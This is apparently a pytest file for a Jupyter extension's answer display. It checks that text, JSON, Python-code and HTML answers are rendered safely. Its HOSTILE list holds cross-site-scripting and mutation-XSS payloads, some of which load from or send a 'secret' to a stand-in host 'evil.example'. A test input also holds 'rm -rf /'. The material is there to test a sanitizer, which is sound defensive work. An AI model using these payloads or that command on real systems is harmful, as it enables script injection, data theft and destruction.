"""How an answer is shown, and that a hostile one can do nothing in any format."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest

from asyncfc_jupyter.jupyter.display.answer_format import AnswerFormat, Shown, python_in
from asyncfc_jupyter.jupyter.display.sandboxed_html import cleaned, framed


def shown(form: str, answer: str) -> Shown:
    result = AnswerFormat(name=form).show(answer)
    assert result is not None
    return result


def test_markdown_is_shown_as_it_streamed() -> None:
    assert AnswerFormat(name="markdown").show("# hello") is None


def test_text_is_plain_and_cannot_steer_a_terminal() -> None:
    assert shown("text", "# <b>\x1b[31m\tx\n").bundle == {"text/plain": "# <b>\tx\n"}


@pytest.mark.parametrize(
    "answer",
    ['{"a": [1, 2]}', '\n```json\n{"a": [1, 2]}\n```\n', 'Here it is:\n\n```\n{"a": [1, 2]}\n```\nAnything else?'],
)
def test_json_is_a_tree_and_pretty_text_also_within_a_fence(answer: str) -> None:
    result = shown("json", answer)
    assert result.bundle == {"application/json": {"a": [1, 2]}, "text/plain": '{\n  "a": [\n    1,\n    2\n  ]\n}'}
    assert result.note == ""


def test_json_that_is_not_a_tree_is_text() -> None:
    assert shown("json", '"ä"').bundle == {"text/plain": '"ä"'}


@pytest.mark.parametrize("answer", ["It costs 3.", '{"a": NaN}', "[" * 100_000, '{"a": 1} and more'])
def test_an_answer_that_is_not_json_is_kept_as_text_with_a_note(answer: str) -> None:
    result = shown("json", answer)
    assert result.bundle == {"text/plain": answer}
    assert result.note.startswith("The answer is not JSON, so it is shown as text (")


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        ("Try:\n\n```python\nx = 1\n```\n\nand\n\n```py\ny = 2\n```\n", "x = 1\n\ny = 2"),
        ("```\nx = 1\n```", "x = 1"),
        ("```bash\nrm -rf /\n```", ""),
        ("x = 1\nprint(x)\n", "x = 1\nprint(x)"),
        ("I cannot do that.", ""),
        ("```python\nif a\u202e == b\x1b[2J:\n    pass\n```", "if a == b:\n    pass"),
    ],
)
def test_the_python_of_an_answer_is_found(answer: str, code: str) -> None:
    assert python_in(answer) == code


def test_code_is_offered_as_a_new_cell_and_is_shown_all_the_same() -> None:
    offered: list[str] = []
    form = AnswerFormat(name="code", insert=offered.append)
    first, second = form.show("x = 1"), form.show("```bash\nls\n```")
    assert offered == ["x = 1"]
    assert first is not None
    assert '<code class="language-python">x = 1' in first.bundle["text/html"]
    assert second is not None
    assert second.note == "The answer has no Python code, so there is no new cell."


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?secret'>",
    "<svg onload=alert(1)><script>alert(1)</script><image href='https://evil.example'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "<svg><style><![CDATA[<img src=x onerror=alert(1)>]]></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<style>@import 'https://evil.example'</style></style><script>alert(1)</script>",
    "<style>p{}</sty<i></i>le><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<link rel=dns-prefetch href='//secret.evil.example'><link rel=preconnect href='//evil.example'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
    "<a href='javascript:alert(1)'>x</a><a href='https://evil.example' ping='https://evil.example'>y</a>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "</iframe><script>alert(1)</script>",
    "\"></iframe><script>alert(1)</script><p title='",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template><object data='https://evil.example'></object><embed src=x>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![if x]><script>alert(1)</script>",
    "<p style='background:url(https://evil.example)' onclick=alert(1) data-x=1>x",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
]


class Seen(HTMLParser):
    """Every element and attribute of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_html_is_cleaned_of_everything_that_acts_or_loads(hostile: str) -> None:
    page = cleaned(hostile)
    seen = Seen(page)
    # Within an <svg> a browser reads the content of <style> as markup, which Python's parser does not.
    assert not re.search(r"<[^>]*\bon\w+\s*=", page)
    acting = {
        "script",
        "iframe",
        "link",
        "meta",
        "base",
        "form",
        "input",
        "button",
        "object",
        "embed",
        "image",
        "template",
    }
    assert not acting & set(seen.tags)
    for tag, name, value in seen.attributes:
        assert not name.startswith("on")
        assert name not in {"href", "srcdoc", "action", "ping", "data"}
        assert name != "src" or (tag == "img" and value.startswith("data:image/"))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_html_stays_within_its_frame(hostile: str) -> None:
    seen = Seen(framed(hostile))
    assert seen.tags == ["iframe", "details", "summary", "pre"]
    attributes = {name: value for tag, name, value in seen.attributes if tag == "iframe"}
    assert attributes["sandbox"] == ""
    head = (
        '<!doctype html><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src \'none\''
    )
    assert attributes["srcdoc"].startswith(head)


def test_html_that_only_draws_is_kept() -> None:
    report = (
        '<style>td{color:red}</style><table><tbody><tr><td colspan="2">a &lt; b</td></tr></tbody></table>'
        '<svg viewBox="0 0 9 9"><circle cx="4" r="3" fill="red"></circle></svg><img src="data:image/png;base64,AAAA">'
    )
    assert cleaned(f"<!doctype html><html><head><title>t</title></head><body>{report}</body></html>") == report
    assert "&lt;td&gt;" in str(shown("html", "```html\n<td>x</td>\n```").bundle["text/html"])


@pytest.mark.parametrize(
    "huge",
    [
        "&" * 200_001,
        "é" * 100_001,
        "<div>" * 10_001,
        "<p>" + "".join(f"<b id={i}>" for i in range(600)) + "</p>" + "<p>x</p>" * 600,
    ],
)
def test_html_that_would_take_a_parser_seconds_is_shown_as_text(huge: str) -> None:
    page = cleaned(huge)
    assert page.endswith(f"</p><pre>{html.escape(huge)}</pre>")
    assert "too large to be drawn" in page


def test_json_that_no_front_end_accepts_is_repaired_or_shown_as_text() -> None:
    assert shown("json", '[1, "\\ud800"]').bundle == {"application/json": [1, "?"], "text/plain": '[\n  1,\n  "?"\n]'}
    infinite = shown("json", "[1, 1e999]")
    assert infinite.bundle == {"text/plain": "[1, 1e999]"}
    assert "not JSON" in infinite.note
